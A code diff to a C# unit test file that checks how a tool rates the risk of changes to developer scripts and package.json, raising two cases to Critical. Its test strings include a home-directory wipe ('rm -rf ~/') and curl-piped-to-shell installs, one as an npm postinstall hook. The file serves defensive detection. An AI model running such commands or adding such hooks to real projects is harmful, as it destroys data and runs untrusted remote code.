@@ -20,7 +20,7 @@ public class SideFileUnitTests
     [TestCase("fonts/open-sans.woff2", FileKinds.Images)]
     [TestCase(".gitignore", FileKinds.EditorSettings)]
     [TestCase(".vscode/launch.json", FileKinds.EditorSettings)]
-    [TestCase("src/App.Tests/App.Tests.csproj.DotSettings", FileKinds.EditorSettings)]
+    [TestCase("src/App/App.csproj.DotSettings", FileKinds.EditorSettings)]
     [TestCase("UI/Web/.eslintrc.json", FileKinds.EditorSettings)]
     [TestCase("tests/Jellyfin.Api.Tests/Test Data/response.json", FileKinds.TestData)]
     [TestCase("src/Foo.Tests/Snapshots/Render.verified.txt", FileKinds.TestData)]
@@ -185,7 +185,7 @@ public class SideFileUnitTests
     [TestCase("tools/fuzz.sh", "afl-fuzz -i in -o out ./bin/Debug/net9.0/Fuzz\n", "afl-fuzz -i in -o out ./bin/Debug/net10.0/Fuzz\n", RiskLevel.Low)] // the same program, one argument changed
     [TestCase("scripts/clean.sh", "echo cleaning\n", "echo cleaning\nrm -rf ~/\n", RiskLevel.Critical)]
     [TestCase("scripts/setup.ps1", "$Projects = @{\n  Api = \"../src/Api\"\n}\n", "$Projects = @{\n  Api = \"../src/Api\"\n  Seeder = \"../util/Seeder\"\n}\n", RiskLevel.Low)]
-    [TestCase("scripts/bootstrap.sh", "set -e\n", "set -e\ncurl -fsSL https://get.example.com/install.sh | sh\n", RiskLevel.High)]
+    [TestCase("scripts/bootstrap.sh", "set -e\n", "set -e\ncurl -fsSL https://get.example.com/install.sh | sh\n", RiskLevel.Critical)]
     [TestCase("scripts/notes.sh", "# old comment\necho hi\n", "# new comment\necho hi\n", RiskLevel.Low)]
     public void DeveloperScriptsByWhatTheyRun(string path, string before, string after, RiskLevel risk)
     {
@@ -196,7 +196,7 @@ public class SideFileUnitTests
     [TestCase("{\"scripts\":{\"build\":\"npm run cache-langs && ng build\",\"cache-langs\":\"node hash.js\"}}",
         "{\"scripts\":{\"build\":\"npm run cache-locale && ng build\",\"cache-locale\":\"node hash.js\"}}", RiskLevel.Low)]
     [TestCase("{\"scripts\":{\"start\":\"ng serve\"}}", "{\"scripts\":{\"start\":\"ng serve --host 0.0.0.0\"}}", RiskLevel.Medium)]
-    [TestCase("{\"scripts\":{\"build\":\"ng build\"}}", "{\"scripts\":{\"build\":\"ng build\",\"postinstall\":\"curl https://x.example.com/i.sh | bash\"}}", RiskLevel.High)]
+    [TestCase("{\"scripts\":{\"build\":\"ng build\"}}", "{\"scripts\":{\"build\":\"ng build\",\"postinstall\":\"curl https://x.example.com/i.sh | bash\"}}", RiskLevel.Critical)]
     public void NpmScriptsByTheCommandsTheyAdd(string before, string after, RiskLevel risk)
     {
         var findings = SideFiles.Classify(File("package.json", before, after), FileKinds.NpmManifest, LineChanges.Compute(before, after), DependencyRules.Default).ToList();
